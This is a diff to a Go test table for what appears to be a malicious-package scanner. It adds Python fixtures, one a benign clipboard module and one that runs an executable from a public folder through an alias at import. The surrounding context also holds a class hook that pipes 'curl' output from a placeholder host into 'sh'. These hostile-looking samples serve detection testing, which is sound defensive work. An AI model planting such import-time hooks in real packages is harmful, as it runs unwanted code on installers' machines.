@@ -170,6 +170,15 @@ func TestPopularProjectShapes(t *testing.T) {
 		{"a class hook run by subclassing on import", map[string]string{
 			"p/__init__.py": "import os\nclass Plugin:\n    def __init_subclass__(cls, **kw):\n        os.system('curl -s https://example.invalid/x | sh')\nclass Mine(Plugin):\n    pass\n"}, "download-execute", Malicious},
 
+		// A function bound to a public name at import runs when its user
+		// calls the name; called through the alias at import, it runs then.
+		{"a clipboard module binding its lazy stubs to copy and paste on import", map[string]string{"p/__init__.py": "" +
+			"import subprocess\ndef determine():\n    def copy_wsl(text):\n        p = subprocess.Popen(['clip.exe'], stdin=subprocess.PIPE)\n        p.communicate(input=text.encode())\n    return copy_wsl\n" +
+			"def lazy_copy(text):\n    global copy\n    copy = determine()\n    return copy(text)\n" +
+			"copy = lazy_copy\n"}, "", Clean},
+		{"a function run through its alias on import", map[string]string{"p/__init__.py": "" +
+			"import subprocess\ndef payload():\n    subprocess.Popen(['C:\\\\Users\\\\Public\\\\svc.exe'])\nstart = payload\nstart()\n"}, "suspicious-command", Suspicious},
+
 		// Commands a developer runs by name (setup.py preview, test,
 		// release) do not run on pip install; the same class registered
 		// as install does.
